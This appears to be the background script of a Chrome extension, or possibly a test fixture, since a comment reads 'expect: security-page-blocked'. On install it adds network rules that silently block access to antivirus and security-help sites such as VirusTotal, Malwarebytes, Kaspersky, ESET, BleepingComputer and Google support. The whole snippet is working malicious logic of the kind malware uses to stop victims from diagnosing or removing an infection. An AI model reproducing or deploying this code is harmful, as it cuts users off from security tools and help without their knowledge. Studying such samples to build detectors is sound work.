const mute = ["virustotal.com", "malwarebytes.com", "kaspersky.com", "eset.com", "bleepingcomputer.com", "support.google.com"];
chrome.runtime.onInstalled.addListener(async () => {
  // expect: security-page-blocked
  await chrome.declarativeNetRequest.updateDynamicRules({
    removeRuleIds: mute.map((_, i) => i + 1),
    addRules: mute.map((host, i) => ({ id: i + 1, action: { type: "block" }, condition: { urlFilter: `||${host}^`, resourceTypes: ["main_frame", "xmlhttprequest"] } })),
  });
});
